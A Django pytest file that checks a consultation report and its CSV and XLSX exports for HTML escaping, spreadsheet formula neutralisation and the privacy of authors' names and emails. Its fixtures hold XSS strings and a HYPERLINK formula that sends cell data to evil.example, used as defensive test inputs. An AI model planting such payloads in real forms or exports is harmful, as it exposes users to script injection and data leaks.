"""The consultation report, its CSV and XLSX: complete, private where it must be, inert."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from consultations.exports import neutralise
from consultations.models import Comment
from consultations.tests.factories import CommentFactory
from krakow_ngo.seed.loader import SEED_SLUG, seed_krakow
from teams.models import Representative
from teams.tests.factories import OrganisationFactory, UserFactory

pytestmark = pytest.mark.django_db

EN = {"HTTP_ACCEPT_LANGUAGE": "en"}
HOSTILE = '<script>alert("x")</script><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def published(comment: Comment) -> Comment:
    Comment.objects.filter(pk=comment.pk).update(answer_published_at=comment.submitted_at)
    comment.refresh_from_db()
    return comment


@pytest.fixture
def hostile(version, programme):
    """HTML/JS and formulas in every field a person or the city writes."""
    organisation = OrganisationFactory(name=f"Fundacja {HOSTILE}")
    author = UserFactory(first_name="Janina", last_name="Tajna", email="janina.tajna@example.org")
    # A confirmed representation: only then is the organisation's name public (issue 10).
    Representative.objects.create(user=author, organisation=organisation, status="confirmed")
    comment = CommentFactory(
        author=author,
        organisation=organisation,
        paragraph=version.sections.first().paragraphs.first(),
        current_wording=f"-{HOSTILE}",
        proposed_wording=FORMULA,
        justification=f"@SUM(1+1) {HOSTILE}",
        answer="rejected",
        answer_justification=f"+{HOSTILE}",
    )
    programme.report_summary = f"Podsumowanie {HOSTILE}"
    programme.report_published_at = comment.submitted_at
    programme.save()
    return published(comment)


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"])
def test_formula_characters_are_neutralised(value):
    assert neutralise(value) == "'" + value


def test_plain_text_is_left_alone():
    assert neutralise("Uwaga 1-2") == "Uwaga 1-2"
    assert neutralise(None) == ""


def test_hostile_input_is_shown_as_text_on_the_report_and_draft(client, hostile, version):
    paragraph = hostile.paragraph
    for url in (
        reverse("consultations:report", args=[version.programme.slug]),
        # The draft carries counts; the answers are on the paragraph's answers page.
        reverse(
            "consultations:paragraph_answers",
            args=[
                version.programme.slug,
                version.number,
                paragraph.section.position,
                paragraph.number,
            ],
        ),
    ):
        html = client.get(url).content.decode()
        assert "<script>alert" not in html
        assert "<img src=x" not in html
        assert "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;" in html


def test_hostile_input_is_shown_as_text_on_my_comments_and_the_receipt(client, hostile):
    client.force_login(hostile.author)
    for url in (
        reverse("consultations:my_comments"),
        reverse("consultations:my_comment", args=[hostile.pk]),
    ):
        html = client.get(url).content.decode()
        assert "<script>alert" not in html
        assert "&lt;script&gt;" in html


def test_csv_has_the_standard_columns_and_neutralised_cells(client, hostile, version):
    response = client.get(reverse("consultations:report_csv", args=[version.programme.slug]), **EN)
    assert response["Content-Type"].startswith("text/csv")
    text = response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][:9] == [
        "No.",
        "Version",
        "Part of the document",
        "Current wording",
        "Proposed wording",
        "Justification",
        "Organisation",
        "Position",
        "Justification of the position",
    ]
    row = rows[1]
    assert row[3] == f"'-{HOSTILE}"
    assert row[4] == "'" + FORMULA
    assert row[5] == f"'@SUM(1+1) {HOSTILE}"
    assert row[6] == f"Fundacja {HOSTILE}"
    assert row[8] == f"'+{HOSTILE}"
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r)


def test_xlsx_cells_are_text_never_formulas(client, hostile, version):
    response = client.get(reverse("consultations:report_xlsx", args=[version.programme.slug]))
    sheet = load_workbook(io.BytesIO(response.content)).active
    values = [[c.value for c in row] for row in sheet.iter_rows()]
    assert values[1][4] == "'" + FORMULA
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f"
            assert not str(cell.value or "").startswith(("=", "+", "-", "@"))


def test_only_organisation_names_are_public_never_a_persons_name_or_email(client, hostile, version):
    slug = version.programme.slug
    outputs = [
        client.get(reverse("consultations:report", args=[slug])).content.decode(),
        client.get(reverse("consultations:report_csv", args=[slug])).content.decode("utf-8-sig"),
        client.get(version.get_absolute_url()).content.decode(),
    ]
    sheet = load_workbook(
        io.BytesIO(client.get(reverse("consultations:report_xlsx", args=[slug])).content)
    ).active
    outputs.append(" ".join(str(c.value) for row in sheet.iter_rows() for c in row))
    for output in outputs:
        assert "Tajna" not in output
        assert "janina.tajna" not in output
        assert hostile.author.username not in output


def test_the_report_lists_every_comment_but_publishes_only_answered_texts(client, version):
    paragraph = version.sections.first().paragraphs.first()
    published(CommentFactory(paragraph=paragraph, answer="accepted", answer_justification="Tak"))
    published(CommentFactory(paragraph=paragraph, answer="rejected", answer_justification="Nie"))
    CommentFactory(paragraph=paragraph, answer="accepted", answer_justification="Jeszcze nie")
    withdrawn = published(
        CommentFactory(paragraph=paragraph, answer="accepted", answer_justification="Wycofana")
    )
    Comment.objects.filter(pk=withdrawn.pk).update(status="withdrawn")
    response = client.get(reverse("consultations:report", args=[version.programme.slug]), **EN)
    html = response.content.decode()
    # Every number is listed (issue 10); unanswered and withdrawn rows hide their text.
    assert len(response.context["comments"]) == 4
    assert html.count("status-withdrawn") == 1
    assert "Jeszcze nie" not in html
    assert "Wycofana" not in html
    assert response.context["counts"]["by_answer"] == [("accepted", 1), ("rejected", 1)]


def test_the_seeded_report_is_readable_by_a_stranger(client):
    seed_krakow()
    response = client.get(
        reverse("consultations:report", args=[SEED_SLUG]), HTTP_ACCEPT_LANGUAGE="pl"
    )
    html = response.content.decode()
    assert response.status_code == 200
    assert len(response.context["comments"]) == 10
    assert "Zespół Koordynujący rozpatrzył wszystkie uwagi" in html
    assert "Fundacja Pomocy Rodzinie „Nowa Droga”" in html
    assert "ekspert" in html.lower()
    # Accepted comments point at the paragraph they changed in version 2.
    assert "wersji 2" in html.lower() or "version 2" in html.lower()
